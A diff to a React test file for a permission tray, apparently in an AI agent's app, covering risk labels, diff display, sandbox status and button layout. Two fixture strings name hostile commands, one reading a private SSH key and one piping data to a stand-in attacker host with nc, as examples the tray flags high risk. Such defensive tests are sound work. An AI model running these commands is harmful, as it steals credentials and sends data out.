@@ -1,4 +1,4 @@
-import { act, fireEvent, screen, waitFor, within } from '@testing-library/react'
+import { act, cleanup, fireEvent, screen, waitFor, within } from '@testing-library/react'
 import { createTwoFilesPatch } from 'diff'
 import { afterEach, describe, expect, it, vi } from 'vitest'
 import { PROMPT_ARMING_MS } from '../../shared/prompt-arming'
@@ -53,8 +53,9 @@ describe('the permission tray', () => {
       'cat ~/.ssh/id_rsaHigh risk: reads a secret',
       'nc evil.example 443High risk: sends data out',
     ])
-    // The header names the risk too, so it is in view before anything is read.
-    expect(within(tray).getByText('High risk: reads a secret', { selector: '.risk' })).toBeVisible()
+    // The header names the level, so it is in view before anything is read; the reasons once, in the list.
+    expect(within(tray).getByText('High risk', { selector: '.risk' })).toBeVisible()
+    expect(within(tray).getAllByText('High risk: reads a secret')).toHaveLength(1)
   })
 
   it('keeps the end of a long command on screen while Details is closed', async () => {
@@ -86,20 +87,25 @@ describe('the permission tray', () => {
     ])
   })
 
-  it("shows an edit's diff without a click, syntax-coloured by the file's extension", async () => {
+  it("shows an edit's diff without a click, syntax-coloured by the file's extension, the changed words marked", async () => {
     const { tray } = await showPermission({
       tool: 'edit_file',
       summary: 'Edit src/app.ts',
-      detail: patch('const a = 1\n', 'const a = 2\n'),
+      detail: patch('let b = 3\nconst a = 1\n', 'let b = 3\nconst a = 2\n'),
     })
     const changes = within(tray).getByRole('group', { name: 'Changes' })
     expect(
       within(changes)
         .getAllByRole('row')
         .map((r) => r.textContent),
-    ).toEqual(['1−removedconst a = 1', '1+addedconst a = 2'])
+    ).toEqual(['11 let b = 3', '2−removedconst a = 1', '2+addedconst a = 2'])
+    // An unchanged line is coloured; a changed one shows what changed in it instead.
     await waitFor(() => expect(changes.querySelector('.hljs-keyword')).not.toBeNull())
-    expect(changes.querySelector('.hljs-number')?.textContent).toBe('1')
+    expect(changes.querySelector('.hljs-number')?.textContent).toBe('3')
+    expect(Array.from(changes.querySelectorAll('mark')).map((m) => m.textContent)).toEqual([
+      '1',
+      '2',
+    ])
   })
 
   it('shows a new file as its content and a write that changes nothing as "No changes"', async () => {
@@ -136,10 +142,22 @@ describe('the permission tray', () => {
     expect(within(tray).getByText('No changes')).toBeInTheDocument()
   })
 
-  it('draws Allow as a danger button when the risk is high', async () => {
+  it('outlines Allow in the danger colour when the risk is high, with no filled button at all', async () => {
     const { tray } = await showPermission({ risk: 'high' })
-    expect(within(tray).getByRole('button', { name: 'Allow' })).toHaveClass('button-danger')
+    expect(within(tray).getByRole('button', { name: 'Allow' })).toHaveClass('button-danger-outline')
+    expect(tray.querySelector('.button-primary, .button-danger')).toBeNull()
     expect(tray).toHaveClass('is-high-risk')
+  })
+
+  it('says where an allowed command runs and what it may touch, and what the prompt lifts', async () => {
+    const none = { network: false, writeOutside: false, credentials: false }
+    const { tray } = await showPermission({ runsIn: { sandboxed: true, ...none } })
+    expect(
+      within(tray).getByText('Runs in the sandbox · no network · writes only in the workspace'),
+    ).toBeVisible()
+    cleanup()
+    const lifted = await showPermission({ runsIn: { sandboxed: true, ...none, network: true } })
+    expect(within(lifted.tray).getByText(/with network/)).toHaveClass('is-lifted')
   })
 
   it('says what Remember covers in its one label, and says why not when nothing can be remembered', async () => {
@@ -257,11 +275,14 @@ describe('the permission tray', () => {
     expect(within(tray).getByText(/Dismiss closes it unanswered/)).toBeInTheDocument()
   })
 
-  it('puts Allow before Deny (keys 1, 2) and Stop after them', async () => {
+  it('puts Allow before Deny (keys 1, 2), with Stop in the header, out of their row', async () => {
     const { tray } = await showPermission()
     const names = within(tray)
       .getAllByRole('button')
       .map((b) => b.textContent)
-    expect(names.slice(-3)).toEqual(['Allow1', 'Deny2', 'Stop'])
+    expect(names.slice(-2)).toEqual(['Allow1', 'Deny2'])
+    expect(tray.querySelector('header')).toContainElement(
+      within(tray).getByRole('button', { name: 'Stop' }),
+    )
   })
 })
